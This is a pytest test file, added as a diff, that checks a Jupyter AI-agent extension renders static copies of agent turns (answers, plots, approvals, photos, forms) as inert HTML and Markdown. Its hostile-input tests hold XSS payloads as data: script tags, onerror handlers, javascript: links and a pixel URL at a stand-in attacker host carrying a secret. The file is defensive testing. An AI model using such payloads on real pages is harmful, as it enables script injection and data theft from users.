@@ -1,0 +1,438 @@
+"""The static copy of a %gth turn, on real thread views: the offline demo model's quickstart and
+data-agent turns run through the AG-UI layer against a real kernel (a real plot, a real approval,
+a photo sent back as the browser does, a form and its submission), and what a hostile model,
+kernel or tool could put in them. Each test reads the produced strings as a reader's renderer
+would: the HTML parsed, the Markdown rendered by a renderer that lets raw HTML through (as
+JupyterLab does for a trusted notebook)."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import json
+import re
+import sys
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import mistune
+import pytest
+from jupyter_client.manager import AsyncKernelManager
+
+from gth_jupyter.agent import AgentRegistry
+from gth_jupyter.agui import runtime_of, thread_view
+from gth_jupyter.agui.run import prepare_run, stream_events
+from gth_jupyter.config import load_config
+from gth_jupyter.kernel import KernelClient
+from gth_jupyter.kernel.access import ClientAccess
+from gth_jupyter.notebook.static_copy import MAX_CELL_BYTES, render_static_copy, waiting_copy
+from gth_jupyter.store import CheckpointStore
+from tests.conftest import CAMERA_TOOL
+
+PHOTO = "A photo was taken (not saved in the notebook; set jupyter.savePhotos to keep it)."
+HOSTILE_ANSWER = (
+    "Done <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n"
+    "[click](javascript:alert(3)) [entity](jav&#x61;script:alert(4)) <javascript:alert(5)>\n\n"
+    "![](https://evil.example/pixel.png?d=secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=)\n\n"
+    '<div onmouseover="alert(6)">hover</div>\n\n'
+    "[safe](https://example.com/docs) and `<b>code</b>`"
+)
+SALES = (
+    "import pandas as pd\n"
+    "sales = pd.DataFrame({'month': ['2024-01', '2024-02', '2024-03'], 'region': ['N', 'S', 'W'],"
+    " 'revenue': [1.5, 2.5, 3.5], 'units': [1, 2, 3]})"
+)
+# A 16x16 JPEG header and some bytes: what the browser sends back for capture_image.
+JPEG = base64.b64encode(
+    bytes.fromhex(
+        "ffd8ffe000104a46494600010100000100010000ffc0001108001000100301110002110103110100"
+    )
+    + b"\0" * 200
+).decode()
+
+
+# -- real thread views -------------------------------------------------------------------------
+
+
+async def _run(runtime: Any, access: Any, rid: str, turn: str, messages: list[Any], **extra: Any):
+    payload = {"threadId": "t", "runId": rid, "protocolVersion": "1.0", "messages": messages}
+    payload["forwardedProps"] = {"gth": {"turnId": turn, "kernelId": "k"}}
+    prepared = await prepare_run(
+        runtime, json.dumps({**payload, **extra}).encode(), kernels=lambda _k: access
+    )
+    async for _ in stream_events(prepared):
+        pass
+    return await thread_view(runtime, "t", turn)
+
+
+def _config(folder: Path, llm: dict[str, Any]) -> Path:
+    folder.mkdir()
+    (folder / ".gsloth.config.json").write_text(json.dumps({"llm": llm}))
+    return folder / ".gsloth.config.json"
+
+
+async def _runtime(file: Path) -> Any:
+    registry = AgentRegistry(
+        load_config(file),
+        command="notebook",
+        store=CheckpointStore("memory", None),
+    )
+    return await runtime_of(registry, "default")
+
+
+async def _scenario(folder: Path) -> dict[str, Any]:
+    manager = AsyncKernelManager(kernel_name="python3")
+    manager.kernel_spec.argv[0] = sys.executable
+    backend = "module://matplotlib_inline.backend_inline"  # as in a notebook: plots are PNGs
+    env = {"HOME": str(folder), "PATH": "/usr/bin:/bin", "MPLBACKEND": backend}
+    await manager.start_kernel(cwd=str(folder), env=env)
+    client = KernelClient.from_manager(manager)
+    await client.start()
+    try:
+        assert (await client.execute(SALES, shell="main", timeout=60)).reply["status"] == "ok"
+
+        async def opener() -> KernelClient:
+            return client
+
+        access = ClientAccess(opener)
+        demo = await _runtime(_config(folder / "demo", {"type": "demo", "tokenDelayMs": 0}))
+        views: dict[str, Any] = {}
+
+        def ask(text: str, mid: str) -> list[dict[str, Any]]:
+            return [{"id": mid, "role": "user", "content": text}]
+
+        views["hello"] = await _run(demo, access, "r1", "c1", ask("Hello! What can you do?", "u1"))
+        views["list"] = await _run(demo, access, "r2", "c2", ask("what data do I have?", "u2"))
+        views["describe"] = await _run(demo, access, "r3", "c3", ask("describe sales", "u3"))
+        waiting = await _run(demo, access, "r4", "c4", ask("plot revenue by month", "u4"))
+        views["plot_waiting"] = waiting
+        approve = [{"interruptId": waiting["interrupts"][0]["id"], "status": "resolved"}]
+        approve[0]["payload"] = {"approved": True}
+        views["plot"] = await _run(demo, access, "r5", "c4", [], resume=approve)
+        again = await _run(demo, access, "r6", "c5", ask("plot revenue by month", "u6"))
+        reject = [{"interruptId": again["interrupts"][0]["id"], "status": "resolved"}]
+        reject[0]["payload"] = {"approved": False}
+        views["rejected"] = await _run(demo, access, "r7", "c5", [], resume=reject)
+        photo = ask("Take a photo and tell me what you see.", "u8")
+        asked = await _run(demo, access, "r8", "c6", photo, tools=[CAMERA_TOOL])
+        sent = [{"interruptId": asked["interrupts"][0]["id"], "status": "resolved"}]
+        sent[0]["payload"] = {"mimeType": "image/jpeg", "data": JPEG}
+        views["photo"] = await _run(demo, access, "r9", "c6", [], tools=[CAMERA_TOOL], resume=sent)
+        form = await _run(demo, access, "r10", "c7", ask("Show me a sign-up form.", "u10"))
+        action = {
+            "actionName": "submit_form",
+            "sourceComponentId": "submit",
+            "surfaceId": "demo_signup",
+            "timestamp": "2026-01-01T00:00:00Z",
+            "context": {"name": "Ada <b>", "email": "ada@example.com"},
+        }
+        submit = [*form["messages"], {"id": "u11", "role": "user", "content": json.dumps(action)}]
+        views["form"] = await _run(demo, access, "r11", "c7", submit)
+        fake = await _runtime(
+            _config(folder / "fake", {"type": "fake", "responses": [HOSTILE_ANSWER]})
+        )
+        views["hostile"] = await _run(fake, access, "r1", "h1", ask("<b>hi</b> & bye", "u1"))
+        return views
+    finally:
+        await client.close()
+        await manager.shutdown_kernel(now=True)
+
+
+@pytest.fixture(scope="module")
+def views(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    yield asyncio.run(_scenario(tmp_path_factory.mktemp("static-copy")))
+
+
+# -- reading the copy as a renderer does -------------------------------------------------------
+
+
+class _Page(HTMLParser):
+    """Tags with their attributes, and the text a reader sees."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.text: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {k: v or "" for k, v in attrs}))
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+    def seen(self) -> str:
+        return " ".join("".join(self.text).split())
+
+
+_IMAGE_SRC = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*$")
+
+
+def assert_inert(markup: str) -> _Page:
+    """Nothing in ``markup`` runs or loads anything: no script (or other active element), no
+    event handler, links only to http(s)/mailto, images only from inline raster data."""
+    page = _Page(markup)
+    for tag, attrs in page.tags:
+        assert tag not in {"script", "iframe", "object", "embed", "style", "svg", "form", "link"}
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name)
+            assert "javascript:" not in value.lower().replace(" ", ""), (tag, name, value)
+        if "href" in attrs:
+            assert attrs["href"].startswith(("https://", "http://", "mailto:")), attrs
+        if tag == "img" or "src" in attrs:
+            assert _IMAGE_SRC.match(attrs.get("src", "")), attrs.get("src", "")[:80]
+    return page
+
+
+def rendered_markdown(text: str) -> str:
+    """The Markdown copy as a renderer that keeps raw HTML would show it."""
+    return str(mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])(text))
+
+
+def both(copy: dict[str, str]) -> tuple[_Page, _Page]:
+    """The HTML copy and the rendered Markdown copy, each checked inert."""
+    return assert_inert(copy["text/html"]), assert_inert(rendered_markdown(copy["text/markdown"]))
+
+
+def size(copy: dict[str, str]) -> int:
+    return sum(len(v.encode()) for v in copy.values())
+
+
+def tool_rows(markup: str) -> list[list[str]]:
+    """Every table row's cell texts, in order."""
+    rows: list[list[str]] = []
+    for row in re.findall(r"<tr>(.*?)</tr>", markup, re.DOTALL):
+        cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.DOTALL)
+        rows.append([_Page(c).seen() for c in cells])
+    return rows
+
+
+# -- the quickstart turns -------------------------------------------------------------------------
+
+
+def test_a_chat_turn_is_the_prompt_and_the_rendered_answer(views: dict[str, Any]) -> None:
+    view = views["hello"]
+    answer = view["messages"][-1]["content"]
+    copy = render_static_copy(view)
+    assert set(copy) == {"text/html", "text/markdown", "text/plain"}
+    assert copy["text/html"].startswith('<div class="gth-static-copy">')
+    html_page, md_page = both(copy)
+    for page in (html_page, md_page):
+        assert "You: Hello! What can you do?" in page.seen()
+        assert "I'm gth-demo, the offline demo model" in page.seen()
+    # Markdown became structure (bold, a list, a code block), not literal asterisks.
+    assert "<strong>gth-demo</strong>" in copy["text/html"]
+    assert "<li>" in copy["text/html"] and "<pre><code" in copy["text/html"]
+    assert copy["text/plain"] == answer  # the answer's text, never an object repr
+    assert "object at 0x" not in json.dumps(copy)
+
+
+def test_a_photo_is_a_placeholder_unless_photos_are_saved(views: dict[str, Any]) -> None:
+    copy = render_static_copy(views["photo"])
+    for page in both(copy):
+        assert PHOTO in page.seen()
+        assert not [t for t, _ in page.tags if t == "img"]
+    assert JPEG[:40] not in json.dumps(copy)
+
+    kept = render_static_copy(views["photo"], save_photos=True)
+    for page in both(kept):
+        (src,) = [a["src"] for t, a in page.tags if t == "img"]
+        assert src == f"data:image/jpeg;base64,{JPEG}"
+        assert PHOTO not in page.seen()
+
+
+def test_a_form_is_one_line_with_its_title_and_the_values_sent(views: dict[str, Any]) -> None:
+    copy = render_static_copy(views["form"])
+    for page in both(copy):
+        seen = page.seen()
+        assert "📋 Form: Sign up for updates — Name: Ada <b> · Email: ada@example.com" in seen
+        assert "▶ submit_form" in seen  # the action, as the transcript shows it
+        assert "surfaceUpdate" not in seen and "sourceComponentId" not in seen
+    assert not [t for t, _ in _Page(copy["text/html"]).tags if t == "b"]
+
+
+# -- the data agent --------------------------------------------------------------------------------
+
+
+def test_list_variables_is_a_table_of_the_kernels_variables(views: dict[str, Any]) -> None:
+    copy = render_static_copy(views["list"])
+    both(copy)
+    rows = tool_rows(copy["text/html"])
+    assert rows[0] == ["Name", "Type", "Shape", "Size", "Columns"]
+    assert rows[1][:3] == ["sales", "pandas.DataFrame", "3\N{MULTIPLICATION SIGN}4"]
+    assert rows[1][4] == "month: str, region: str, revenue: float64, units: int64"
+    assert tool_rows(rendered_markdown(copy["text/markdown"]))[:2] == rows[:2]
+    assert "🔧 list_variables · done" in _Page(copy["text/html"]).seen()
+
+
+def test_describe_variable_shows_schema_statistics_and_first_rows(views: dict[str, Any]) -> None:
+    copy = render_static_copy(views["describe"])
+    html_page, _ = both(copy)
+    rows = tool_rows(copy["text/html"])
+    assert ["Column", "Dtype", "Nulls"] in rows and ["revenue", "float64", "0"] in rows
+    assert ["", "month", "region", "revenue", "units"] in rows  # first rows
+    assert ["0", "2024-01", "N", "1.5", "1"] in rows
+    assert ["mean", "2.5", "2.0"] in rows  # summary statistics
+    assert '🔧 describe_variable · done {"name": "sales"}' in html_page.seen()
+
+
+def test_run_python_shows_its_code_its_output_and_the_plot_inline(views: dict[str, Any]) -> None:
+    view = views["plot"]
+    result = json.loads(next(m for m in view["messages"] if m["role"] == "tool")["content"])
+    (plot,) = result["images"]
+    copy = render_static_copy(view)
+    for page in both(copy):
+        seen = page.seen()
+        assert "🔧 run_python · done" in seen
+        assert 'agent_totals = sales.groupby("month", sort=False)["revenue"].sum()' in seen
+        assert "Draw a bar chart of revenue by month from sales." in seen  # its justification
+        assert "<Figure size 600x350 with 1 Axes>" in seen  # its text output
+        (src,) = [a["src"] for t, a in page.tags if t == "img"]
+        assert src == f"data:image/png;base64,{plot['data']}"
+    assert '<code class="language-python">' in copy["text/html"]
+    assert size(copy) < MAX_CELL_BYTES
+
+
+def test_approvals_show_what_was_decided(views: dict[str, Any]) -> None:
+    waiting = _Page(render_static_copy(views["plot_waiting"])["text/html"]).seen()
+    assert "🔧 run_python · awaiting approval" in waiting
+    assert "Waiting for approval: The agent wants to run Python code" in waiting
+    rejected = render_static_copy(views["rejected"])
+    for page in both(rejected):
+        assert "🔧 run_python · not run" in page.seen()
+        assert "Approval: Rejected: it did not run." in page.seen()
+    approved = _Page(render_static_copy(views["plot"])["text/html"]).seen()
+    assert "Approval:" not in approved and "Waiting for approval" not in approved
+
+
+# -- what a hostile model, kernel or tool writes ---------------------------------------------------
+
+
+def test_the_models_html_links_and_remote_images_stay_inert(views: dict[str, Any]) -> None:
+    copy = render_static_copy(views["hostile"])
+    html_page, md_page = both(copy)  # no script, handler, javascript: URL or remote image
+    for page in (html_page, md_page):
+        seen = page.seen()
+        assert "<script>alert(1)</script>" in seen  # shown as text, as written
+        assert "<img src=x onerror=alert(2)>" in seen
+        assert "You: <b>hi</b> & bye" in seen
+        hrefs = [a["href"] for t, a in page.tags if t == "a"]
+        assert "https://example.com/docs" in hrefs
+        # The remote image is a link the reader may follow, never a request made for them.
+        assert "https://evil.example/pixel.png?d=secret" in hrefs
+        assert not [t for t, _ in page.tags if t == "img"]  # nor the SVG
+        assert "<b>code</b>" in seen
+    assert copy["text/plain"] == HOSTILE_ANSWER
+
+
+def test_hostile_tool_results_and_kernel_values_stay_text(views: dict[str, Any]) -> None:
+    view = json.loads(json.dumps(views["list"]))
+    tool = next(m for m in view["messages"] if m["role"] == "tool")
+    listed = json.loads(tool["content"])
+    listed["variables"][0]["name"] = "<script>alert('var')</script>"
+    listed["variables"][0]["columns"][0]["name"] = '<img src=x onerror="alert(1)">'
+    tool["content"] = json.dumps(listed)
+    call = {"id": "c-web", "type": "function", "function": {"name": "gth_web_fetch"}}
+    call["function"]["arguments"] = json.dumps({"url": "https://example.com/<script>"})
+    page_html = "<html><script>steal()</script><a href='javascript:x'>x</a></html>"
+    view["messages"] += [
+        {"id": "a2", "role": "assistant", "toolCalls": [call]},
+        {"id": "t2", "role": "tool", "toolCallId": "c-web", "content": page_html},
+    ]
+    image = {"mimeType": "image/svg+xml", "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}
+    run = {"status": "ok", "stdout": "<script>x()</script>", "images": [image]}
+    view["messages"] += [
+        {
+            "id": "a3",
+            "role": "assistant",
+            "toolCalls": [
+                {
+                    "id": "c-run",
+                    "type": "function",
+                    "function": {
+                        "name": "run_python",
+                        "arguments": json.dumps({"code": "</code></pre><script>"}),
+                    },
+                }
+            ],
+        },
+        {"id": "t3", "role": "tool", "toolCallId": "c-run", "content": json.dumps(run)},
+    ]
+    copy = render_static_copy(view)
+    for page in both(copy):
+        seen = page.seen()
+        assert "<script>alert('var')</script>" in seen
+        assert "<html><script>steal()</script>" in seen
+        assert "</code></pre><script>" in seen and "<script>x()</script>" in seen
+        assert "An image was not kept." in seen  # an SVG is never shown
+        assert not [t for t, _ in page.tags if t == "img"]
+
+
+# -- the size cap ----------------------------------------------------------------------------------
+
+
+def test_a_huge_output_is_cut_head_and_tail_and_the_cap_holds(views: dict[str, Any]) -> None:
+    view = json.loads(json.dumps(views["plot"]))
+    tool = next(m for m in view["messages"] if m["role"] == "tool")
+    result = json.loads(tool["content"])
+    result["stdout"] = "FIRST LINE\n" + "x" * 5_000_000 + "\nLAST LINE"
+    tool["content"] = json.dumps(result)
+    view["messages"][-1]["content"] = "start " + "word " * 400_000 + " end"
+    copy = render_static_copy(view)
+    assert size(copy) <= MAX_CELL_BYTES
+    seen = _Page(copy["text/html"]).seen()
+    assert "FIRST LINE" in seen and "LAST LINE" in seen and "characters not shown" in seen
+    assert "start word" in copy["text/plain"] and copy["text/plain"].endswith("end")
+
+
+def test_a_copy_whose_text_passes_the_cap_becomes_its_text_cut(views: dict[str, Any]) -> None:
+    many = [
+        {"id": f"m{i}", "role": "assistant", "content": f"answer {i} " + "y" * 50_000}
+        for i in range(40)
+    ]
+    copy = render_static_copy({"messages": many})
+    assert size(copy) <= MAX_CELL_BYTES
+    assert "Too long to keep in full in the notebook (cap: 512 KiB)" in copy["text/html"]
+    assert "answer 0 yyy" in copy["text/plain"] and "characters not shown" in copy["text/plain"]
+    both(copy)
+
+
+def test_a_plot_past_the_cap_is_made_smaller_or_left_out(
+    views: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    view = views["plot"]
+    whole = render_static_copy(view)
+    cap = size(whole) - 12_000  # the plot no longer fits as it is
+    smaller = render_static_copy(view, max_bytes=cap)
+    assert size(smaller) <= cap
+    (src,) = [a["src"] for t, a in assert_inert(smaller["text/html"]).tags if t == "img"]
+    assert src.startswith("data:image/png;base64,") and len(src) < len(whole["text/html"]) // 2
+
+    monkeypatch.setitem(sys.modules, "PIL", None)  # without Pillow: left out, with a note
+    dropped = render_static_copy(view, max_bytes=cap)
+    assert size(dropped) <= cap
+    for page in both(dropped):
+        assert not [t for t, _ in page.tags if t == "img"]
+        assert "Plot from run_python: left out, the copy would pass its" in page.seen()
+
+
+# -- before the turn ends, and what the cell adds --------------------------------------------------
+
+
+def test_before_the_turn_ends_the_copy_says_it_waits() -> None:
+    copy = waiting_copy("plot <b>this</b>")
+    assert copy["text/plain"] == "waiting for the agent…"
+    for page in both(copy):
+        assert "You: plot <b>this</b>" in page.seen() and "waiting for the agent…" in page.seen()
+    assert waiting_copy(None)["text/html"].startswith('<div class="gth-static-copy">')
+
+
+def test_the_prompt_shows_until_the_view_has_it_and_notes_come_last() -> None:
+    note = "run_python was refused: add an allow entry for it <here>."
+    copy = render_static_copy({"messages": []}, prompt="why?", notes=[note])
+    for page in both(copy):
+        assert page.seen() == f"You: why? {note}"
+    assert copy["text/plain"] == f"The agent gave no answer.\n\n{note}"
